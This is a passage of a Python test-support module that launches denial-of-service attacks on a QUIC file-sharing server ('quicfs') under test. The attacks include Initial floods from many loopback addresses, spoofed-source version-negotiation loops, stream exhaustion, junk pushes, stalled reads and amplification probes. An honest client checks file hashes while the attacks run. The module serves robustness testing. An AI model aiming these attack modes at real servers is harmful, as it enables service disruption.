                      "factor": round(received / sent, 2) if sent else None})


async def honest_gets(url: str, opts: str, path: str, sha256: str, *, gets: int = 1,
                      seconds: float = 0.0, one_session: bool = False,
                      until_eof: bool = False, within: float = 30.0,
                      report=None) -> Result:  # type: ignore[no-untyped-def]
    """The real client under attack (``quicfs.connect`` and ``read_file``, as users run
    it): gets of ``path``, each checked against ``sha256``, at least ``gets`` of them and
    for at least ``seconds``; with ``until_eof``, on until stdin closes (then the get
    under way ends the run). A new connection for each, or one session for all
    (``one_session``: ``same_connection`` then says whether SMB ever reconnected).
    ``report`` is told of each get as it ends: {get, start, end, seconds, ok, error}
    (times: time.monotonic(), which other processes share)."""
    import hashlib

    import quicfs

    done: list[dict[str, object]] = []
    eof = trio.Event()
    same = True
    cause: object = None  # what ended the first connection, when SMB reconnected
    started = time.monotonic()

    async def watch_stdin() -> None:
        await _until_stdin_closes()
        eof.set()

    def more() -> bool:
        if until_eof:
            return not eof.is_set()
        return len(done) < gets or time.monotonic() - started < seconds

    async def one(share) -> None:  # type: ignore[no-untyped-def]
        t0 = time.monotonic()
        error = None
        data = b""
        with trio.move_on_after(within) as scope:
            try:
                if share is None:
                    async with quicfs.connect(url, opts) as s:
                        data = await s.read_file(path)
                else:
                    data = await share.read_file(path)
            except Exception as exc:
                error = f"{type(exc).__name__}: {exc}"
        if scope.cancelled_caught:
            error = f"did not finish within {within:g} s"
        t1 = time.monotonic()
        ok = error is None and hashlib.sha256(data).hexdigest() == sha256
        if error is None and not ok:
            error = f"not byte-exact ({len(data)} bytes)"
        line = {"get": len(done), "start": t0, "end": t1, "seconds": round(t1 - t0, 3),
                "ok": ok, "error": error}
        done.append(line)
        if report is not None:
            report(line)

    async with trio.open_nursery() as nursery:
        if until_eof:
            nursery.start_soon(watch_stdin)
        if one_session:
            t0 = time.monotonic()
            try:
                with trio.move_on_after(within) as scope:
                    async with quicfs.connect(url, opts) as share:
                        conn = share.conn
                        while more():
                            await one(share)
                            if done[-1]["error"]:
                                break
                        same = share.conn is conn and not conn.closed
                        if not same and share.uplink is not None:
                            cause = share.uplink.snapshot().get("last_reconnect_cause")
                if scope.cancelled_caught and not done:
                    raise TimeoutError(f"no session within {within:g} s")
            except Exception as exc:
                if not done or done[-1]["ok"]:
                    t1 = time.monotonic()
                    done.append({"get": len(done), "start": t0, "end": t1,
                                 "seconds": round(t1 - t0, 3), "ok": False,
                                 "error": f"session: {type(exc).__name__}: {exc}"})
                    if report is not None:
                        report(done[-1])
        else:
            while more():
                await one(None)
                if done[-1]["error"]:
                    break
        nursery.cancel_scope.cancel()
    return Result("honest", all(d["ok"] for d in done), "", {
        "gets": done, "same_connection": same if one_session else None,
        "reconnect_cause": cause})


# ============================================================================ processes
class AttackProcess:
    """An attack (or the honest client) in a process of its own (``python -m
    tests.support.attacker``): started, waited for its ``started`` line, then waited for
    (or stopped: stdin closed, SIGTERM, SIGKILL) and its result read. Lines ``get
    {json}`` (the honest client's) are kept in ``gets`` as they are read."""

    def __init__(self, *args: str, ready_within: float = 60.0) -> None:
        self.args = [sys.executable, "-m", "tests.support.attacker", *args]
        self.name = args[0]
        self.proc = subprocess.Popen(self.args, cwd=ROOT, stdin=subprocess.PIPE,
                                     stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                     start_new_session=True)
        self.port: int | None = None
        self.started: dict[str, object] = {}
        self.gets: list[dict[str, object]] = []
        self._buf = b""
        self._err: bytes | None = None
        deadline = time.monotonic() + ready_within
        while (line := self._readline(deadline)) is not None:
            if line.startswith("listening "):
                self.port = int(line.split()[1])
            elif line.startswith("started"):
                self.started = json.loads(line.split(" ", 1)[1])
                return
        self.kill()
        raise RuntimeError(f"attack {self.name} did not start within {ready_within} s: "
                           f"{self.stderr()}")

    def _readline(self, deadline: float) -> str | None:
        """A line of the process's output (unbuffered: what follows stays for
        :meth:`wait`); None at the deadline or at its end."""
        import select

        assert self.proc.stdout is not None
        fd = self.proc.stdout.fileno()
        while b"\n" not in self._buf:
            left = deadline - time.monotonic()
            if left <= 0 or not select.select([fd], [], [], left)[0]:
                return None
            chunk = os.read(fd, 65536)
            if not chunk:
                return None
            self._buf += chunk
        line, self._buf = self._buf.split(b"\n", 1)
        return line.decode()

    def next_get(self, within: float) -> dict[str, object] | None:
        """The honest client's next get as it ends (None: no more, or not within)."""
        deadline = time.monotonic() + within
        while (line := self._readline(deadline)) is not None:
            if line.startswith("get "):
                self.gets.append(json.loads(line[4:]))
                return self.gets[-1]
            if line.startswith("{"):
                self._buf = line.encode() + b"\n" + self._buf  # the result: for wait()
                return None
        return None

    def alive(self) -> bool:
        return self.proc.poll() is None

    def wait(self, timeout: float) -> dict[str, object]:
        """The attack ran its course: its result."""
        assert self.proc.stdout is not None
        try:
            out, err = self.proc.communicate(timeout=timeout)
        except subprocess.TimeoutExpired:
            self.kill()
            raise
        return self._result(out, err)

    def stop(self, timeout: float = 10.0) -> dict[str, object]:
        """End a long-running attack (stdin closed; SIGTERM if that is not enough)."""
        assert self.proc.stdin is not None
        try:
            out, err = self.proc.communicate(timeout=timeout)
        except subprocess.TimeoutExpired:
            os.killpg(self.proc.pid, signal.SIGTERM)
            try:
                out, err = self.proc.communicate(timeout=5)
            except subprocess.TimeoutExpired:
                self.kill()
                raise
        return self._result(out, err)

    def kill(self) -> None:
        if self.proc.poll() is None:
            os.killpg(self.proc.pid, signal.SIGKILL)
        self.proc.wait(timeout=10)

    def stderr(self) -> str:
        """The tail of what it said on stderr, once it has ended."""
        if self._err is None:
            if self.proc.poll() is None:
                return ""
            assert self.proc.stderr is not None
            self._err = self.proc.stderr.read()
        return self._err.decode(errors="replace")[-2000:]

    def _result(self, out: bytes, err: bytes) -> dict[str, object]:
        self._err = err or b""
        out = self._buf + (out or b"")
        self._buf = b""
        for ln in out.decode().splitlines():
            if ln.startswith("get "):
                self.gets.append(json.loads(ln[4:]))
        lines = [ln for ln in out.decode().splitlines() if ln.startswith("{")]
        if not lines:
            raise RuntimeError(f"attack {self.name} ended without a result "
                               f"(exit {self.proc.returncode}): {err.decode()[-2000:]}")
        return json.loads(lines[-1])  # type: ignore[no-any-return]


def _started(figures: dict[str, object] | None = None) -> None:
    print("started " + json.dumps(figures or {}), flush=True)


def _print(result: Result) -> None:
    print(json.dumps(asdict(result)), flush=True)


async def _until_stdin_closes() -> None:
    async with trio.lowlevel.FdStream(os.dup(0)) as stdin:
        while await stdin.receive_some():
            pass


def _parser() -> argparse.ArgumentParser:
    ap = argparse.ArgumentParser(prog="python -m tests.support.attacker",
                                 description=__doc__.splitlines()[0])
    sub = ap.add_subparsers(dest="attack", required=True)

    def add(name: str, help: str) -> argparse.ArgumentParser:
        p = sub.add_parser(name, help=help)
        p.add_argument("--target", required=True, type=parse_addr, metavar="HOST:PORT")
        return p

    p = add("two-datagrams", "an Initial, then its connection id from another address")
    p.add_argument("--variant", default="server-cid",
                   choices=["server-cid", "client-dcid", "client-dcid-junk"])
    p.add_argument("--seconds", type=float, default=0.0,
                   help="pairs again and again for this long (default: one pair)")
    p.add_argument("--rate", type=float, default=20.0, help="pairs a second (with --seconds)")
    p = add("initial-flood", "valid Initials with fresh connection ids from many sources")
    p.add_argument("--rate", type=float, default=10_000)
    p.add_argument("--seconds", type=float, default=10.0)
    p.add_argument("--first", type=int, default=2, help="first source 127.0.0.N")
    p.add_argument("--last", type=int, default=250, help="last source 127.0.0.N")
    p.add_argument("--ports", type=int, default=4, help="sockets per source address")
    p.add_argument("--undecryptable", action="store_true",
                   help="fresh ids on the template without sealing again")
    p.add_argument("--hello", choices=["full", "partial", "mixed"], default="mixed",
                   help="a whole ClientHello in each Initial, the first half of one, or "
                        "the two in turn")
    p = add("vn-loop", "an unknown version from a forged source (root)")
    p.add_argument("--other", type=parse_addr, default=None, metavar="HOST:PORT",
                   help="the forged source (default: the target itself)")
    p.add_argument("--count", type=int, default=3)
    p.add_argument("--sniff", type=float, default=0.0, metavar="SECONDS",
                   help="then count VN datagrams on lo for this long")
    p = add("streams", "many streams on one connection, each with an SMB2 NEGOTIATE")
    p.add_argument("--streams", type=int, default=100)
    p.add_argument("--hold", type=float, default=2.0)
    p = add("push", "an SMB2 NEGOTIATE, then junk into the stream")
    p.add_argument("--mib", type=int, default=400)
    p.add_argument("--seconds", type=float, default=8.0)
    p.add_argument("--stall", type=float, default=2.0)
    p = add("no-read", "SMB sessions that ask for big reads, then stop reading")
    p.add_argument("--share-url", required=True, help="//HOST:PORT/SHARE (the target's)")
    p.add_argument("--options", required=True, help="quicfs options (credentials, pin)")
    p.add_argument("--path", required=True, help="a big file on the share")
    p.add_argument("--sessions", type=int, default=4)
    p.add_argument("--depth", type=int, default=32)
    p = add("observe-junk", "an observing relay, and junk with the ids it sees")
    p.add_argument("--rate", type=float, default=100.0)
    p.add_argument("--mode", choices=["junk", "replay"], default="junk",
                   help="random junk with a live id, or copies of the client's datagrams")
    p = sub.add_parser("honest", help="the real client: gets of a file, each checked")
    p.add_argument("--url", required=True, help="//HOST:PORT/SHARE")
    p.add_argument("--options", required=True, help="quicfs options (credentials, pin)")
    p.add_argument("--path", required=True)
    p.add_argument("--sha256", required=True)
    p.add_argument("--gets", type=int, default=1, help="at least this many")
    p.add_argument("--seconds", type=float, default=0.0, help="and for at least this long")
    p.add_argument("--one-session", action="store_true", help="all gets on one session")
    p.add_argument("--until-eof", action="store_true", help="on until stdin closes")
    p.add_argument("--within", type=float, default=30.0, help="the most one get may take")
    p = add("amplification", "one Initial from a socket that never answers")
    p.add_argument("--seconds", type=float, default=10.0)
    p.add_argument("--two-datagram-hello", action="store_true")
    return ap


def main(argv: list[str] | None = None) -> int:
    args = _parser().parse_args(argv)
    target: Addr | None = getattr(args, "target", None)
    if args.attack == "honest":
        _started()

        def report(line: dict[str, object]) -> None:
            print("get " + json.dumps(line), flush=True)

        _print(trio.run(lambda: honest_gets(
            args.url, args.options, args.path, args.sha256, gets=args.gets,
            seconds=args.seconds, one_session=args.one_session, until_eof=args.until_eof,
            within=args.within, report=report)))
    elif args.attack == "two-datagrams":
        _started()
        results = []
        end = time.monotonic() + args.seconds
        while True:
            started = time.monotonic()
            results.append(two_datagrams(target, variant=args.variant, wait=0.2))
            if time.monotonic() >= end:
                break
            time.sleep(max(0.0, 1 / args.rate - (time.monotonic() - started)))
        last = results[-1]
        last.figures["pairs"] = len(results)
        last.figures["pairs_answered"] = sum(1 for r in results if r.ok)
        _print(last)
    elif args.attack == "initial-flood":
        _print(initial_flood(target, rate=args.rate, seconds=args.seconds,
                             sources=(args.first, args.last), ports=args.ports,
                             valid=not args.undecryptable, hello=args.hello,
                             on_start=_started))
    elif args.attack == "vn-loop":
        _started()
        _print(vn_loop(target, other=args.other, count=args.count, sniff=args.sniff))
    elif args.attack == "streams":
        _print(trio.run(lambda: many_streams(target, streams=args.streams, hold=args.hold,
                                             on_start=_started)))
    elif args.attack == "push":
        _print(trio.run(lambda: push(target, mib=args.mib, seconds=args.seconds,
                                     stall=args.stall, on_start=_started)))
    elif args.attack == "no-read":
        _print(trio.run(lambda: no_read(args.share_url, args.options, args.path,
                                        sessions=args.sessions, depth=args.depth,
                                        on_start=_started)))
    elif args.attack == "observe-junk":
        relay = ObserverRelay(target, rate=args.rate, mode=args.mode)

        async def run() -> None:
            async with trio.open_nursery() as n:
                port = await n.start(relay.run)
                print(f"listening {port}", flush=True)
                _started({"source": relay.source})
                await _until_stdin_closes()
                n.cancel_scope.cancel()

        signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
        try:
            trio.run(run)
        finally:
            _print(Result("observe-junk", relay.within_limit(), relay.mode, relay.figures()))
    elif args.attack == "amplification":
        _started()
        _print(amplification(target, seconds=args.seconds,
                             one_datagram=not args.two_datagram_hello))
    return 0


if __name__ == "__main__":
    sys.exit(main())
